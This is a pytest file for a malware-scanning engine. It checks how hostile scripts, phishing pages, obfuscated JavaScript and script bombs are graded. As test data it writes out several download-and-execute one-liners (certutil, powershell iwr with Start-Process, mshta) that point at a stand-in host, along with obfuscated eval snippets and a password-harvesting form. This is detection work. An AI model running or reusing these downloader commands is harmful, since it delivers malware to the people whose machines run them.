from __future__ import annotations

import time
from collections import Counter
from collections.abc import Callable, Iterator
from pathlib import Path

import django
import pytest
from tests.engines.scripts import samples

from lazaretto.engines.scripts import Scripts
from lazaretto.model import Finding, Kind, Severity
from lazaretto.testing import artifact, findings, hostile, mail

ENGINE = Scripts(Scripts.Settings())
Samples = Callable[[], Iterator[tuple[str, bytes]]]


def inspected(name: str, data: bytes) -> list[Finding]:
    one = artifact(data, name=name)
    return list(ENGINE.inspect(one)) if ENGINE.wants(one) else []


def grade(name: str, data: bytes) -> str:
    return next(
        (each.name.rpartition(".")[2] for each in inspected(name, data) if each.kind is not Kind.LIMIT), "nothing"
    )


@pytest.mark.parametrize(("make", "least"), [(samples.scripts, 100), (samples.smuggling, 40), (samples.links, 25)])
def test_hostile_shapes(make: Samples, least: int) -> None:
    graded = {name: grade(name, data) for name, data in make()}
    assert len(graded) >= least
    missed = [name for name, each in graded.items() if each not in ("suspicious", "malicious")]
    assert len(missed) <= 0.05 * len(graded), missed
    assert Counter(graded.values())["malicious"] >= 0.7 * len(graded)


def honest() -> list[Path]:
    """Scripts and pages of the wheels that are installed for the tests."""
    site = Path(django.__file__).parents[1]
    found = [path for ending in ("js", "bat", "ps1", "html", "svg") for path in site.rglob(f"*.{ending}")]
    found += (
        [
            path
            for ending in ("bat", "ps1")
            for path in Path(time.__spec__.origin or "/usr/lib").parent.rglob(f"*.{ending}")
        ]
        if False
        else []
    )
    return sorted(path for path in found if path.stat().st_size < 400_000)[:: max(1, len(found) // 300)]


def test_honest_scripts() -> None:
    graded = {str(path): grade(path.name, path.read_bytes()) for path in honest()}
    assert len(graded) >= 100
    assert "malicious" not in graded.values(), [name for name, each in graded.items() if each == "malicious"]
    assert sum(each == "suspicious" for each in graded.values()) <= 0.02 * len(graded)


def test_an_ordinary_mail_has_nothing() -> None:
    page = b"<html><body><p>hello</p><img src=http://example.invalid/a.gif></body></html>"
    assert findings(ENGINE, mail(attachments={"a.html": page})) == []


def test_a_page_with_a_script_is_no_more_than_noted() -> None:
    page = b'<html><script>document.write("a" + "b"); if (x) { window.location = "https://example.invalid/" }</script>'
    assert all(each.severity is Severity.INFORMATIONAL for each in inspected("a.html", page))


def test_a_phishing_page() -> None:
    page = b'<html><form action="https://example.invalid/a.php" method=post><input name=p type="password"></form>'
    (finding,) = inspected("a.html", page)
    assert (finding.name, finding.kind, finding.severity) == ("script.page.suspicious", Kind.PHISHING, Severity.MEDIUM)


def test_the_evidence_has_the_innermost_text() -> None:
    (finding,) = inspected("a.js", samples.JS_WAYS["codes"](samples.JS["run"]).encode())
    assert finding.severity is Severity.HIGH
    assert "WScript.Shell" in finding.evidence[0]


@pytest.mark.parametrize("data", hostile())
@pytest.mark.parametrize("name", ["a.js", "a.vbs", "a.ps1", "a.bat", "a.html", "a.hta"])
def test_it_bears_anything(name: str, data: bytes) -> None:
    inspected(name, data)


def test_a_megabyte_in_a_second() -> None:
    code = b"function a(b,c){var d=b.e(c),f='g'+d;return d?[1,2,{h:f}]:a(f.i(0,4),'j')}!function(k){k.l=k.m||{};}(n);"
    data = code * (2**20 // len(code))
    began = time.process_time()
    inspected("a.js", data)
    assert time.process_time() - began < 2  # half of that on the machine it was measured on


LIBRARY = "function a(b){if(b){for(var i=0;i<9999;i++){c(i%7)}}return b.d};" * 1500


def limits(name: str, text: str) -> list[Severity]:
    return [each.severity for each in inspected(name, text.encode()) if each.name == "script.limit"]


def test_a_long_script_that_is_not_followed_is_only_noted() -> None:
    assert limits("a.js", LIBRARY) == [Severity.INFORMATIONAL]


@pytest.mark.parametrize(
    "more",
    [
        "x=new ActiveXObject('WScript.Shell')",
        "eval('ale'+'rt(12345678901)')",
        f"eval(d('{'QUJDabc1' * 20}'))",
        "".join(f'atob("{"QUJDREVGR0hJSktM" * 3}{each:04d}");' for each in range(600)),
    ],
)
def test_unless_it_has_something_to_hide(more: str) -> None:
    assert limits("a.js", LIBRARY + more) == [Severity.MEDIUM]


def test_a_short_one_that_costs_much_is_a_bomb() -> None:
    assert limits("a.js", "for(var i=0;i<1e9;i++){for(var j=0;j<1e9;j++){k=i+j}}") == [Severity.MEDIUM]


@pytest.mark.parametrize(
    ("name", "text"),
    [
        ("a.bat", "certutil -urlcache -split -f http://example.invalid/a.exe a.exe && start a.exe"),
        ("a.bat", "powershell iwr http://example.invalid/a.exe -OutFile a.exe; Start-Process a.exe"),
        ("a.bat", "@echo off\nmshta http://example.invalid/a.hta"),
        ("a.bat", "\xff\xfe&cls\r\nmshta http://example.invalid/a.hta\r\n"),
        ("a.bat", "rem of no use to anybody who reads\n" * 200 + "mshta http://example.invalid/a.hta"),
    ],
)
def test_downloaders_in_one_line(name: str, text: str) -> None:
    assert grade(name, text.encode("latin-1")) == "malicious"


@pytest.mark.parametrize(
    ("name", "text"),
    [
        (
            "a.vbs",
            'Set w = GetObject("winmgmts:\\\\.\\root\\cimv2")\nFor Each o In w.ExecQuery("Select * from X")\nNext',
        ),
        ("a.vbs", 'Set s = CreateObject("WScript.Shell")\ns.Popup "Drives are mapped", 3'),
        ("a.vbs", 'Set x = CreateObject("Excel.Application")\nx.Run "Update"\nx.Quit'),
        ("a.bat", "curl -s https://example.invalid/status -o status.json\ntype status.json"),
        ("a.ps1", '$u="https://example.invalid/v$v"\nInvoke-WebRequest -Uri $u -OutFile $zip\nExpand-Archive $zip'),
    ],
)
def test_honest_errands(name: str, text: str) -> None:
    assert grade(name, text.encode()) == "present"
